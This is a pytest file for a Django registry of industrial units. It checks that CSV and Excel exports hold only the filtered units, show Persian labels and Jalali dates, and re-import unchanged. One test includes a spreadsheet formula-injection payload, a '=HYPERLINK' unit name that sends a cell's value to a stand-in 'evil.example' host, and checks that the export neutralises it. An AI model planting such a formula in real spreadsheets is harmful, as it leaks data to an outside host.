"""Exporting the unit list to CSV and Excel: the filtered units only, and files that re-import unchanged."""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Callable
from decimal import Decimal
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from conftest import make_national_id
from rownaq.accounts.models import User
from rownaq.geography.models import County, IndustrialEstate
from rownaq.registry.filters import UnitFilter
from rownaq.registry.imports import import_batch_commit, import_batch_create, import_batch_validate
from rownaq.registry.models import ImportState, Licence, LicenceKind, Sector, Unit, UnitStatus
from rownaq.registry.spreadsheet import COLUMNS, units_export_csv, units_export_xlsx

pytestmark = pytest.mark.django_db

HEADERS = [column.header for column in COLUMNS]
FIELDS = (
    "name",
    "national_id",
    "sector_id",
    "county_id",
    "estate_id",
    "address",
    "postal_code",
    "latitude",
    "longitude",
    "employees",
    "status",
    "status_since",
    "is_exporter",
    "is_knowledge_based",
)


@pytest.fixture(autouse=True)
def _media(settings: Any, tmp_path: Any) -> None:
    settings.MEDIA_ROOT = tmp_path


@pytest.fixture
def units(make_unit: Callable[..., Unit], shokouhieh: IndustrialEstate) -> list[Unit]:
    tile = make_unit(
        "کاشی‌سازی البرز",
        estate=shokouhieh,
        address="قم، شهرک شکوهیه، خیابان ۱۲",
        postal_code="3718111111",
        latitude=Decimal("34.64123"),
        longitude=Decimal("50.87654"),
        employees=120,
        is_exporter=True,
        status_since=dt.date(2023, 3, 21),
    )
    Licence.objects.create(
        unit=tile,
        kind=LicenceKind.OPERATING,
        number="۱۲۳/۴۵",
        issued_on=dt.date(2020, 8, 2),
        expires_on=dt.date(2025, 8, 2),
    )
    Licence.objects.create(unit=tile, kind=LicenceKind.ESTABLISHMENT, number="999")
    carpet = make_unit(
        "فرش نگین",
        sector=Sector.objects.get(code="1393"),
        status=UnitStatus.IDLE,
        status_since=dt.date(2024, 8, 2),
        is_knowledge_based=True,
        employees=0,
    )
    sohan = make_unit("سوهان ممتاز", sector=Sector.objects.get(code="1073"), status=UnitStatus.SEMI_ACTIVE)
    closed = make_unit("بسته‌بندی قدیم", sector=Sector.objects.get(code="1702"), status=UnitStatus.CLOSED)
    return [tile, carpet, sohan, closed]


def filtered(**params: Any) -> Any:
    return UnitFilter(params, queryset=Unit.objects.all()).qs


def read_xlsx(content: bytes) -> tuple[Any, list[tuple[Any, ...]]]:
    sheet = load_workbook(io.BytesIO(content)).active
    return sheet, list(sheet.iter_rows(values_only=True))


def test_csv_holds_exactly_the_filtered_units_with_a_bom(units: list[Unit]) -> None:
    content = units_export_csv(filtered(status=["idle", "closed"]))
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows[0] == HEADERS
    by_id = {row[1]: dict(zip(HEADERS, row, strict=True)) for row in rows[1:]}
    assert set(by_id) == {units[1].national_id, units[3].national_id}
    carpet = by_id[units[1].national_id]
    assert carpet["وضعیت"] == "راکد"
    assert carpet["تاریخ وضعیت"] == "1403/05/12"
    assert (carpet["صادرکننده"], carpet["دانش‌بنیان"]) == ("خیر", "بله")
    assert carpet["کد آیسیک"] == "1393"


def test_xlsx_holds_the_filtered_units_right_to_left_with_jalali_text_dates(units: list[Unit]) -> None:
    sheet, rows = read_xlsx(units_export_xlsx(filtered(exporter=True)))
    assert sheet.sheet_view.rightToLeft
    assert list(rows[0]) == HEADERS
    assert len(rows) == 2
    tile = dict(zip(HEADERS, rows[1], strict=True))
    assert tile["شناسه ملی"] == units[0].national_id
    assert tile["شهرک صنعتی"] == "شهرک صنعتی شکوهیه"
    assert tile["تاریخ وضعیت"] == "1402/01/01"
    assert (tile["عرض جغرافیایی"], tile["طول جغرافیایی"]) == (34.64123, 50.87654)
    assert tile["تعداد کارکنان"] == 120
    assert tile["وضعیت"] == "فعال"
    assert tile["صادرکننده"] == "بله"
    assert tile["شماره پروانه بهره‌برداری"] == "123/45"
    assert (tile["تاریخ صدور پروانه"], tile["تاریخ انقضای پروانه"]) == ("1399/05/12", "1404/05/11")


def _import(content: bytes, by: User) -> Any:
    file = SimpleUploadedFile("export.xlsx", content)
    batch = import_batch_validate(batch=import_batch_create(file=file, by=by))
    assert batch.state == ImportState.VALIDATED, batch.error_message
    assert batch.problems == []
    return batch


def test_an_exported_file_reimports_as_updates_that_change_nothing(units: list[Unit], expert: User) -> None:
    batch = _import(units_export_xlsx(Unit.objects.all()), expert)
    assert (batch.valid_rows, batch.new_rows, batch.updated_rows) == (4, 0, 4)
    before = list(Unit.objects.order_by("pk").values(*FIELDS, "version"))
    import_batch_commit(batch=batch, by=expert)
    assert list(Unit.objects.order_by("pk").values(*FIELDS, "version")) == before


def test_an_exported_file_recreates_the_same_units(units: list[Unit], expert: User) -> None:
    content = units_export_xlsx(filtered(status=["active", "idle", "semi_active"]))
    expected = list(Unit.objects.exclude(status="closed").order_by("national_id").values(*FIELDS))
    licences = list(Licence.objects.filter(kind=LicenceKind.OPERATING).values("number", "issued_on", "expires_on"))
    Unit.objects.all().delete()
    batch = _import(content, expert)
    assert (batch.new_rows, batch.updated_rows) == (3, 0)
    import_batch_commit(batch=batch, by=expert)
    assert list(Unit.objects.order_by("national_id").values(*FIELDS)) == expected
    assert list(Licence.objects.values("number", "issued_on", "expires_on")) == licences


def test_the_export_page_uses_the_unit_list_filters(client: Client, expert: User, units: list[Unit]) -> None:
    client.force_login(expert)
    response = client.get(reverse("registry-unit-export", args=["xlsx"]), {"status": "semi_active"})
    assert response.status_code == 200
    _sheet, rows = read_xlsx(response.content)
    assert [row[1] for row in rows[1:]] == [units[2].national_id]
    response = client.get(reverse("registry-unit-export", args=["csv"]), {"sector": "13"})
    lines = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [line[1] for line in lines[1:]] == [units[1].national_id]


def test_exporting_a_province_of_2500_units_takes_few_queries_and_keeps_every_row(
    qom_county: County, shokouhieh: IndustrialEstate, django_assert_max_num_queries: Any
) -> None:
    sectors = list(Sector.objects.filter(level="class", code__startswith="2")[:20])
    Unit.objects.bulk_create(
        Unit(
            name=f"واحد {serial}",
            national_id=make_national_id(serial),
            sector=sectors[serial % len(sectors)],
            county=qom_county,
            estate=shokouhieh if serial % 3 else None,
            employees=serial % 200,
            status=UnitStatus.values[serial % 4],
            latitude=Decimal("34.6"),
            longitude=Decimal("50.9"),
        )
        for serial in range(1, 2501)
    )
    Licence.objects.bulk_create(
        Licence(unit=unit, kind=LicenceKind.OPERATING, number=str(unit.pk), expires_on=dt.date(2026, 1, 1))
        for unit in Unit.objects.all()[:1500]
    )
    # Its speed is measured in benchmarks/registry.py (export rows), never here: a test asserts no time.
    units = Unit.objects.order_by("name")
    with django_assert_max_num_queries(10):
        csv_content = units_export_csv(units)
    with django_assert_max_num_queries(10):
        xlsx_content = units_export_xlsx(units)
    assert len(list(csv.reader(io.StringIO(csv_content.decode("utf-8-sig"))))) == 2501
    _sheet, rows = read_xlsx(xlsx_content)
    assert len(rows) == 2501


def test_a_unit_named_like_a_formula_is_exported_as_text_and_reimports_unchanged(
    make_unit: Callable[..., Unit], expert: User
) -> None:
    """A manager named their unit =HYPERLINK(...): the expert's export must not carry a live formula."""
    name = '=HYPERLINK("http://evil.example/?x="&B2, "کاشی البرز")'
    unit = make_unit(name, address="+98 25 3333", postal_code="3718111111")
    rows = list(csv.reader(io.StringIO(units_export_csv(Unit.objects.all()).decode("utf-8-sig"))))
    row = dict(zip(HEADERS, rows[1], strict=True))
    assert row["نام واحد"] == "'" + unit.name
    assert row["نشانی"] == "'" + unit.address
    assert row["کد پستی"] == "3718111111"

    content = units_export_xlsx(Unit.objects.all())
    cells = dict(zip(HEADERS, list(load_workbook(io.BytesIO(content)).active.iter_rows())[1], strict=True))  # type: ignore[union-attr]
    assert (cells["نام واحد"].data_type, cells["نام واحد"].value) == ("s", unit.name)
    assert (cells["نشانی"].data_type, cells["نشانی"].value) == ("s", unit.address)
    assert cells["تعداد کارکنان"].data_type == "n"

    batch = _import(content, expert)
    import_batch_commit(batch=batch, by=expert)
    unit.refresh_from_db()
    assert (unit.name, unit.address) == (name, "+98 25 3333")
